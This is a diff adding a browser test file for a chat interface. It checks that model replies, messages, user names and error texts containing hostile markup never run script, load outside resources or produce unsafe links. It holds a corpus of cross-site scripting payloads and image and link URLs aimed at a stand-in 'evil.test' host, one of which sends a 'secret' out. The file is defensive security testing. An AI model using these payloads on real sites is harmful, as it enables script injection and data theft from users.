@@ -1,0 +1,105 @@
+/**
+ * Whatever a colleague, a model or an error says: nothing of it runs, nothing is loaded from elsewhere, and no link leads
+ * anywhere but to the web.
+ */
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { httpError, text } from '../../support/model-script.js';
+import { newcomer } from '../../support/threads.js';
+import { browserNote, hasBrowser, WebWorld } from '../browser.js';
+import { answered, answers, seen } from './pages.js';
+
+const corpus: readonly string[] = [
+  '<script>window.hacked = 1</script>',
+  '<img src=x onerror="window.hacked = 1">',
+  '<svg onload="window.hacked = 1"><animate onbegin="window.hacked = 1"/></svg>',
+  '<iframe src="https://evil.test/frame"></iframe>',
+  '<style>@import "https://evil.test/style"; * { display: none }</style>',
+  '<form action="https://evil.test/form"><button>Send</button></form>',
+  '<a href="javascript:window.hacked = 1">raw</a>',
+  '[a link](javascript:window.hacked=1)',
+  '[another](JaVaScRiPt:window.hacked=1 "title")',
+  '[data](data:text/html,<script>parent.hacked=1</script>)',
+  '[v](vbscript:msgbox)',
+  '<javascript:window.hacked=1>',
+  '![secret](https://evil.test/pixel?words=secret)',
+  '![x](data:image/svg+xml,<svg/onload=window.hacked=1>)',
+  '[![nested](https://evil.test/nested)](https://evil.test/target)',
+  '![by reference][pic]\n\n[pic]: https://evil.test/reference',
+  '```html\n<script>window.hacked = 1</script>\n```',
+  '```"><img/src=x/onerror=window.hacked=1>\ncode\n```',
+  '<details open ontoggle="window.hacked = 1">x</details>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
+  '[^1]\n\n[^1]: <img src=x onerror=window.hacked=1>',
+  '\u202egnirts desrever\u202c and \u200binvisible',
+];
+const all = corpus.join('\n\n');
+
+describe.skipIf(!hasBrowser)(`hostile texts in the browser${browserNote}`, () => {
+  let world: WebWorld;
+  beforeAll(async () => {
+    world = await WebWorld.start();
+  });
+  afterAll(async () => {
+    expect(world.problems).toEqual([]);
+    await world.stop();
+  });
+
+  const watched = async () => {
+    const person = await newcomer(world.service, { name: '<img src=x onerror=window.hacked=1>' });
+    const page = await world.signedIn(person);
+    const foreign: string[] = [];
+    page.on('request', (request) => {
+      if (!request.url().startsWith(world.service.url)) foreign.push(request.url());
+    });
+    return { person, page, foreign };
+  };
+
+  it('runs nothing of a model, of a message and of a name', async () => {
+    const { person, page, foreign } = await watched();
+    world.service.model.enqueue([text(all)]);
+    const { threadId } = await person.rest.readyThread({
+      text: all,
+      name: '<b onclick=x>\u202e<script>window.hacked=1',
+    });
+    await page.goto(`/threads/${threadId}`);
+    await answered(page);
+    await seen(page, 'secret (not loaded: https://evil.test/pixel?words=secret)');
+    expect(await page.evaluate('window.hacked')).toBeUndefined();
+    expect(foreign).toEqual([]);
+    expect(await linksOf(page)).toEqual([]);
+    expect(await answers(page).locator('script, img, iframe, style, form, svg:not(button svg, a svg)').count()).toBe(0);
+    expect(await page.title()).toBe('<b onclick=x><script>window.hacked=1 · Skein');
+  });
+
+  it('runs nothing while the text comes character by character', async () => {
+    const { person, page, foreign } = await watched();
+    world.service.model.enqueue([...all].map((character) => text(character)));
+    const { threadId } = await person.rest.createThread({ text: 'Say it' });
+    await page.goto(`/threads/${threadId}`);
+    await answered(page);
+    expect(await page.evaluate('window.hacked')).toBeUndefined();
+    expect(foreign).toEqual([]);
+  });
+
+  it('runs nothing of an error', async () => {
+    const { person, page, foreign } = await watched();
+    world.service.model.enqueue([httpError(400, { message: corpus[1] ?? '' })]);
+    const { threadId } = await person.rest.createThread({ text: 'Fail' });
+    await page.goto(`/threads/${threadId}`);
+    await seen(page, 'The assistant failed.');
+    expect(await page.evaluate('window.hacked')).toBeUndefined();
+    expect(foreign).toEqual([]);
+  });
+});
+
+/** The links of the answer that lead elsewhere than to the web, or tell it too much. */
+async function linksOf(page: Page): Promise<string[]> {
+  const links = await answers(page).locator('.rich a').all();
+  const bad: string[] = [];
+  for (const link of links) {
+    const [href, rel] = [await link.getAttribute('href'), await link.getAttribute('rel')];
+    if (!href?.startsWith('https://') || rel !== 'noopener noreferrer nofollow') bad.push(`${href} ${rel}`);
+  }
+  return bad;
+}
